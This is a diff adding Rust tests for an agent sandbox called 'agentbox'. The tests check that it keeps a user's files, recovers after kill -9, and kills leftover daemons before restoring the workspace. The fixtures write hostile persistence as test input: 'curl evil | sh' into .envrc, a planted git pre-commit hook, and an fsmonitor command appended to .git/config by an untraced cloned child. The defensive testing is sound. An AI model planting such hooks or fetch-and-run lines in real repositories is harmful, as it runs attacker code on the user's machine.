@@ -10,6 +10,7 @@ use std::os::unix::fs::PermissionsExt;
 use std::os::unix::process::CommandExt;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output, Stdio};
+use std::time::{Duration, Instant};
 
 /// With the namespace layer, and without it.
 const MODES: [(&str, &[&str]); 2] = [
@@ -490,6 +491,227 @@ fn renamed_git_dir_is_put_back() {
             check(
                 git_ok(&f, &f.ws, &["rev-parse", "HEAD~1"]) == head,
                 &format!("{c}: history lost"),
+                &out,
+            );
+        }
+    }
+}
+
+// -------------------------------------------------------------------------------------------
+// 5. The post-run guard keeps the person's work: a file the person's editor writes on the host
+//    during the run, at a protected path, is intact afterwards (in the quarantine named)
+// -------------------------------------------------------------------------------------------
+
+#[test]
+fn a_file_the_person_writes_during_the_run_is_not_lost() {
+    for who in who() {
+        for (mode, flags) in MODES {
+            let f = Fixture::new(who);
+            let settings = f.ws.join(".vscode/settings.json");
+            let go = f.dir.path().join("go");
+            let out = std::thread::scope(|s| {
+                let h = s.spawn(|| {
+                    boxed(
+                        &f,
+                        flags,
+                        &format!(
+                            "while [ ! -e {} ]; do sleep 0.05; done; sleep 0.3; echo ran",
+                            go.display()
+                        ),
+                    )
+                });
+                std::thread::sleep(Duration::from_millis(200));
+                // The person's editor, on the host, while the agent runs.
+                std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
+                std::fs::write(&settings, "{\"editor.fontSize\": 14}\n").unwrap();
+                chown_to(&f.ws.join(".vscode"), who);
+                std::fs::write(&go, "").unwrap();
+                h.join().unwrap()
+            });
+            let c = ctx(who, mode, "person's file during the run");
+            check(stdout(&out).contains("ran"), &c, &out);
+            let kept = settings.exists()
+                || quarantine_named(&out)
+                    .is_some_and(|q| !files_with(&q, "editor.fontSize").is_empty());
+            check(kept, &format!("{c}: the person's file is gone"), &out);
+            check(
+                !stderr(&out).contains("created inside the box"),
+                &format!("{c}: claims the box wrote it"),
+                &out,
+            );
+            check(
+                settings.exists() || stderr(&out).contains("appeared during the run"),
+                &format!("{c}: no honest cause"),
+                &out,
+            );
+        }
+    }
+}
+
+// -------------------------------------------------------------------------------------------
+// 6. `kill -9` of agentbox: the next agentbox command in the workspace finishes the restore
+// -------------------------------------------------------------------------------------------
+
+fn spawn_boxed(f: &Fixture, mode: &[&str], script: &str) -> std::process::Child {
+    let mut args: Vec<&str> = vec!["run", "-q"];
+    args.extend_from_slice(mode);
+    args.extend(["--", "sh", "-c", script]);
+    let mut c = Command::new(bin());
+    c.args(&args)
+        .current_dir(&f.ws)
+        .env_clear()
+        .env("PATH", PATH)
+        .env("HOME", &f.home)
+        .env("XDG_CONFIG_HOME", f.home.join(".config"))
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null());
+    as_who(&mut c, f.owner);
+    c.spawn().unwrap()
+}
+
+fn wait_for(p: &Path, secs: u64) -> bool {
+    let end = Instant::now() + Duration::from_secs(secs);
+    while Instant::now() < end {
+        if p.exists() {
+            return true;
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    false
+}
+
+/// `/tmp/agentbox-<pid>-*` directories of `pid`.
+fn host_tmp_of(pid: u32) -> Vec<PathBuf> {
+    std::fs::read_dir("/tmp")
+        .map(|rd| {
+            rd.flatten()
+                .map(|e| e.path())
+                .filter(|p| {
+                    p.file_name().is_some_and(|n| {
+                        n.to_string_lossy()
+                            .starts_with(&format!("agentbox-{pid}-"))
+                    })
+                })
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+#[test]
+fn kill_9_then_the_next_command_finishes_the_restore() {
+    for who in who() {
+        for (mode, flags) in MODES {
+            let f = Fixture::new(who);
+            let planted = f.ws.join(".envrc");
+            let mut child = spawn_boxed(
+                &f,
+                flags,
+                "echo 'curl evil | sh' > .envrc; mkdir -p .vscode; echo '{}' > .vscode/tasks.json; exec sleep 30",
+            );
+            let pid = child.id();
+            let c = ctx(who, mode, "kill -9");
+            assert!(wait_for(&f.ws.join(".vscode/tasks.json"), 10), "{c}: the box did not start");
+            // SAFETY: signalling our own child.
+            unsafe { libc::kill(pid as i32, libc::SIGKILL) };
+            let _ = child.wait();
+            assert!(planted.exists(), "{c}: nothing left to finish (the test proves nothing)");
+            let out = boxed(&f, &[], "echo next");
+            check(stdout(&out).contains("next"), &c, &out);
+            check(!planted.exists(), &format!("{c}: .envrc left behind"), &out);
+            check(!f.ws.join(".vscode").exists(), &format!("{c}: .vscode left behind"), &out);
+            check(stderr(&out).contains("interrupted run"), &format!("{c}: not said"), &out);
+            check(
+                host_tmp_of(pid).is_empty(),
+                &format!("{c}: /tmp/agentbox-{pid}-* left behind"),
+                &out,
+            );
+        }
+    }
+}
+
+#[test]
+fn kill_9_leaves_no_daemon_where_a_cgroup_can_be_made() {
+    // Root can make a cgroup (so can a person with a delegated one); without one the limit is
+    // stated in the README, and a normal end of run still kills every daemon (see below).
+    if !is_root() || super_cgroup().is_none() {
+        eprintln!("SKIP: needs root and a cgroup v2 hierarchy");
+        return;
+    }
+    let f = Fixture::new(As::Me);
+    let late = f.ws.join("late");
+    let mut child = spawn_boxed(
+        &f,
+        &["--simulate-kernel", "userns=off", "--no-report-denials"],
+        &format!(
+            "setsid sh -c 'sleep 1.5; echo x > {}' </dev/null >/dev/null 2>&1 & echo started > started; exec sleep 30",
+            late.display()
+        ),
+    );
+    assert!(wait_for(&f.ws.join("started"), 10));
+    // SAFETY: signalling our own child.
+    unsafe { libc::kill(child.id() as i32, libc::SIGKILL) };
+    let _ = child.wait();
+    let out = boxed(&f, &[], "true");
+    std::thread::sleep(Duration::from_millis(2500));
+    check(!late.exists(), "a daemon of the box outlived a killed agentbox", &out);
+}
+
+/// The cgroup v2 mount point, if any.
+fn super_cgroup() -> Option<PathBuf> {
+    let mi = std::fs::read_to_string("/proc/self/mountinfo").ok()?;
+    mi.lines().find_map(|l| {
+        let (pre, post) = l.split_once(" - ")?;
+        (post.split_whitespace().next()? == "cgroup2")
+            .then(|| pre.split_whitespace().nth(4).map(PathBuf::from))?
+    })
+}
+
+// -------------------------------------------------------------------------------------------
+// 8. Without namespaces: daemons and untraced children die before the restore
+// -------------------------------------------------------------------------------------------
+
+#[test]
+fn fallback_daemons_and_untraced_children_die_before_the_restore() {
+    let py = "/usr/bin/python3";
+    for who in who() {
+        for extra in [&["--no-report-denials"][..], &[][..]] {
+            let f = Fixture::new(who);
+            let hook = f.ws.join(".git/hooks/pre-commit");
+            let config = f.ws.join(".git/config");
+            let before = std::fs::read(&config).unwrap();
+            // A daemon (setsid + double fork) that plants a hook after the run, and a
+            // clone(CLONE_UNTRACED) child that keeps a descriptor on .git/config opened before
+            // the restore and writes through it afterwards.
+            let script = format!(
+                r##"(setsid sh -c 'sleep 1; printf "#!/bin/sh\ntouch /tmp/x\n" > {hook}; chmod +x {hook}' </dev/null >/dev/null 2>&1 &) ;
+{py} - <<'PY'
+import ctypes, os, time
+libc = ctypes.CDLL(None, use_errno=True)
+fd = os.open('.git/config', os.O_WRONLY | os.O_APPEND)
+CLONE_UNTRACED = 0x00800000
+SIGCHLD = 17
+pid = libc.syscall(56, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0)
+if pid == 0:
+    os.setsid()
+    time.sleep(1.2)
+    os.write(fd, b'[core]\n\tfsmonitor = "touch /tmp/y; false"\n')
+    os._exit(0)
+print('forked', pid > 0)
+PY
+echo done"##,
+                hook = hook.display()
+            );
+            let mut flags: Vec<&str> = vec!["--simulate-kernel", "userns=off"];
+            flags.extend_from_slice(extra);
+            let out = boxed(&f, &flags, &script);
+            let c = format!("[{who:?}/{extra:?}] fallback survivors");
+            check(stdout(&out).contains("done"), &c, &out);
+            std::thread::sleep(Duration::from_millis(2000));
+            check(!hook.exists(), &format!("{c}: a daemon planted a hook after the run"), &out);
+            check(
+                std::fs::read(&config).unwrap() == before,
+                &format!("{c}: .git/config written after the restore"),
                 &out,
             );
         }
